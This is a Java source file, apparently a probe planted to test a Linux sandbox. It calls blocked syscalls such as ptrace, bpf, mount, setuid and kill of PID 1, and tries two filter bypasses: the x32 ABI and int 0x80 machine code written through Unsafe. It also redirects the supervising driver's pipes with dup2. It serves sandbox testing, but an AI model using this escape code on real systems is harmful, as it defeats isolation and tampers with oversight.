package planted;

import java.io.File;
import java.io.IOException;
import java.lang.invoke.MethodHandle;
import java.lang.reflect.Array;
import java.lang.reflect.Field;
import java.nio.file.Files;
import java.util.Map;
import java.util.Optional;
import java.util.TreeMap;

@SuppressWarnings("removal")
public final class Attack {
    /** Calls that no program needs, by their numbers on x86-64, each with six arguments. */
    private static final Map<String, long[]> CALLS = new TreeMap<>(Map.ofEntries(
            Map.entry("ptrace", new long[] {101, 16, 1}), Map.entry("process_vm_readv", new long[] {310, 1}),
            Map.entry("io_uring_setup", new long[] {425, 1}), Map.entry("userfaultfd", new long[] {323, 1}),
            Map.entry("splice", new long[] {275, 0, 0, 1, 0, 0}), Map.entry("tee", new long[] {276, 0, 1}),
            Map.entry("mq_open", new long[] {240, 0, 66, 384}), Map.entry("memfd_create", new long[] {319}),
            Map.entry("bpf", new long[] {321}), Map.entry("perf_event_open", new long[] {298}),
            Map.entry("keyctl", new long[] {250, 0, -3}), Map.entry("unshare user", new long[] {272, 0x10000000}),
            Map.entry("clone user", new long[] {56, 0x10000011}), Map.entry("setns", new long[] {308, 0}),
            Map.entry("mount", new long[] {165}), Map.entry("open_tree", new long[] {428, -100, 0, 1}),
            Map.entry("setuid", new long[] {105, 0}), Map.entry("setgid", new long[] {106, 0}),
            Map.entry("clock_settime", new long[] {227, 0}), Map.entry("chroot", new long[] {161}),
            Map.entry("pidfd_getfd", new long[] {438, 0, 0}), Map.entry("vsock", new long[] {41, 40, 1}),
            Map.entry("packet", new long[] {41, 17, 3, 768}), Map.entry("raw", new long[] {41, 2, 3, 1}),
            Map.entry("netlink", new long[] {41, 16, 3}), Map.entry("crypto", new long[] {41, 38, 5}),
            Map.entry("kill the first", new long[] {62, 1, 9}),
            Map.entry("vsock with upper bits", new long[] {41, 40 + (1L << 32), 1})));
    private static Object linker;

    public static void go() {
        System.out.println("TRIED");
        System.out.flush();
        try {
            linker = type("Linker").getMethod("nativeLinker").invoke(null);
            Object lookup = type("Linker").getMethod("defaultLookup").invoke(linker);
            Object symbol = ((Optional<?>) type("SymbolLookup").getMethod("find", String.class).invoke(lookup,
                    "syscall")).get();
            MethodHandle call = function(symbol);
            if ((long) call.invokeWithArguments(39L, 0L, 0L, 0L, 0L, 0L, 0L) != ProcessHandle.current().pid()) {
                return;
            }
            for (Map.Entry<String, long[]> each : CALLS.entrySet()) {
                Object[] given = {0L, 0L, 0L, 0L, 0L, 0L, 0L};
                for (int index = 0; index < each.getValue().length; index++) {
                    given[index] = each.getValue()[index];
                }
                // A signal to the first process is allowed, and lost.
                if ((long) call.invokeWithArguments(given) >= 0 && !each.getKey().startsWith("kill")) {
                    System.out.println("REACHED " + each.getKey());
                }
            }
            System.out.println("asked for " + CALLS.size() + " calls");
            System.out.flush();
            apart(() -> tell("x32", (long) call.invokeWithArguments(0x40000027L, 0L, 0L, 0L, 0L, 0L, 0L)));
            apart(() -> in32Bits(call));
            // The driver's requests come from nowhere now, and its answers go to the standard output.
            String requests = pipe(new File("/proc/self/fd/200"));
            String replies = pipe(new File("/proc/self/fd/201"));
            for (File each : new File("/proc/self/fd").listFiles()) {
                long other = pipe(each).equals(replies) ? 1 : 0;
                if (other == 1 || pipe(each).equals(requests)) {
                    call.invokeWithArguments(33L, other, Long.parseLong(each.getName()), 0L, 0L, 0L, 0L);
                }
            }
        } catch (Throwable refused) {
            System.out.println(refused);
        }
    }

    private interface Risk {
        void take() throws Throwable;
    }

    /** The kernel ends a thread that knocks at the other doors, and without a word. */
    private static void apart(Risk risk) throws InterruptedException {
        Thread thread = new Thread(() -> {
            try {
                risk.take();
            } catch (Throwable refused) {
                System.out.println(refused);
            }
        });
        thread.setDaemon(true);
        thread.start();
        thread.join(150);
    }

    private static void tell(String call, long result) {
        System.out.println(result >= 0 ? "REACHED " + call : call + " gave " + result);
        System.out.flush();
    }

    private static String pipe(File descriptor) {
        try {
            return Files.readSymbolicLink(descriptor.toPath()).toString();
        } catch (IOException gone) {
            return descriptor.getPath();
        }
    }

    /** Asks for the same by the other door, which a filter for 64 bits alone would leave open. */
    private static void in32Bits(MethodHandle call) throws Throwable {
        Field field = sun.misc.Unsafe.class.getDeclaredField("theUnsafe");
        field.setAccessible(true);
        sun.misc.Unsafe unsafe = (sun.misc.Unsafe) field.get(null);
        long page = (long) call.invokeWithArguments(9L, 0L, 4096L, 7L, 0x22L, -1L, 0L);
        // push rbx; mov eax, edi; mov ebx, esi; xchg ecx, edx; int 0x80; pop rbx; ret
        int[] code = {0x53, 0x89, 0xf8, 0x89, 0xf3, 0x87, 0xd1, 0xcd, 0x80, 0x5b, 0xc3};
        for (int index = 0; index < code.length; index++) {
            unsafe.putByte(page + index, (byte) code[index]);
        }
        MethodHandle door = function(type("MemorySegment").getMethod("ofAddress", long.class).invoke(null, page));
        for (long[] each : new long[][] {{359, 40, 1}, {359, 17, 3}, {425, 1, 0}, {26, 16, 1}, {374, 1, 0}}) {
            Object result = door.invokeWithArguments(each[0], each[1], each[2], 0L, 0L, 0L, 0L);
            tell("by 32 bits " + each[0], (int) (long) result);
        }
    }

    private static MethodHandle function(Object address) throws ReflectiveOperationException {
        Class<?> layout = type("MemoryLayout");
        Object word = type("ValueLayout").getField("JAVA_LONG").get(null);
        Object words = Array.newInstance(layout, 7);
        for (int index = 0; index < 7; index++) {
            Array.set(words, index, word);
        }
        Object form = type("FunctionDescriptor").getMethod("of", layout, words.getClass()).invoke(null, word, words);
        Object options = Array.newInstance(type("Linker$Option"), 0);
        return (MethodHandle) type("Linker")
                .getMethod("downcallHandle", type("MemorySegment"), type("FunctionDescriptor"), options.getClass())
                .invoke(linker, address, form, options);
    }

    /** By name, because the compiler would ask for the switch that turns previews on. */
    private static Class<?> type(String name) throws ClassNotFoundException {
        return Class.forName("java.lang.foreign." + name);
    }
}
